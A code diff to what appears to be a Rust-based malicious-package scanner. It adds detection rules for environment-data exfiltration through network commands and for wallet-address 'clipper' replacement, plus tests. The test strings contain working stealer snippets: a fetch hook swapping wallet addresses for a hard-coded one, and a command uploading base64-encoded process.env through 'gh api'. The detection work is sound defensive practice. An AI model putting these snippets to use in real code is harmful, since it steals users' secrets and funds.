@@ -914,6 +914,18 @@ impl<'t> Walker<'_, 't> {
             for p in patterns::command_rules(&cmd) {
                 self.push(p.rule, n, scope, format!("command {}", p.what));
             }
+            // Collected data handed to a command that talks to the network (`curl -d`,
+            // `gh api ... -f content=...`).
+            if patterns::is_network_command(&cmd)
+                && args.is_some_and(|a| js.sends_collected(a, scope))
+            {
+                self.push(
+                    "EXFIL-SEND-COLLECTED",
+                    n,
+                    scope,
+                    "sends host or environment data with a network command".into(),
+                );
+            }
             let prog = cmd.split_whitespace().next().unwrap_or("");
             let prog = prog
                 .rsplit(['/', '\\'])
@@ -1054,6 +1066,24 @@ impl<'t> Walker<'_, 't> {
             | "fs.promises.writeFile"
             | "fs/promises.writeFile" => {
                 self.writes.push((line, fid, scope, snip, in_net));
+            }
+            // `text.replace(/0x[a-fA-F0-9]{40}/g, '0xAttacker...')`: every address in the data
+            // swapped for a hard-coded one (wallet drainers hooking fetch or the provider).
+            _ if matches!(last.as_str(), "replace" | "replaceAll")
+                && first.is_some_and(|a| a.kind() == "regex")
+                && args.and_then(|a| a.named_child(1)).is_some_and(|w| {
+                    !malgraph_ioc::extract(&js.loose_str(w)).wallets.is_empty()
+                }) =>
+            {
+                // No benign reading: from a hook (`window.fetch = async ...`) it weighs
+                // like the file's top level, which installs the hook.
+                self.push(
+                    "STEAL-CLIPPER",
+                    n,
+                    scope.undiscounted(self.ctx.top),
+                    "replaces what a pattern matches with a hard-coded cryptocurrency address"
+                        .into(),
+                );
             }
             _ if is_clipboard_write(&name) => {
                 let wallet = first
@@ -1371,5 +1401,33 @@ req.end();
         assert!(run(clip, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
         let copy = "const clipboardy = require('clipboardy');\nclipboardy.writeSync(text);";
         assert!(!run(copy, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
+        // Addresses in fetched data swapped for a hard-coded one; a plain regex replace is not.
+        let swap = "window.fetch = async (...a) => { const t = await (await f(...a)).text();\n  return t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'); };";
+        assert!(run(swap, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
+        let tidy = "module.exports = s => s.replace(/\\s+/g, ' ');";
+        assert!(!run(tidy, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
+    }
+
+    #[test]
+    fn collected_data_in_a_network_command_is_exfiltration() {
+        let sent = "const cp = require('child_process');\nconst d = Buffer.from(JSON.stringify(process.env)).toString('base64');\ncp.execSync(`gh api repos/x/y/contents/r -X PUT -f content=${d}`);";
+        assert!(
+            run(sent, Scope::INSTALL)
+                .0
+                .contains(&"EXFIL-SEND-COLLECTED")
+        );
+        // The same data written to a local command, or a network command without it, is not.
+        let local = "const cp = require('child_process');\nconst d = JSON.stringify(process.env);\ncp.execSync(`echo ${d} > env.txt`);";
+        assert!(
+            !run(local, Scope::INSTALL)
+                .0
+                .contains(&"EXFIL-SEND-COLLECTED")
+        );
+        let plain = "const cp = require('child_process');\ncp.execSync('curl -sO https://x.test/tool.tgz');";
+        assert!(
+            !run(plain, Scope::INSTALL)
+                .0
+                .contains(&"EXFIL-SEND-COLLECTED")
+        );
     }
 }
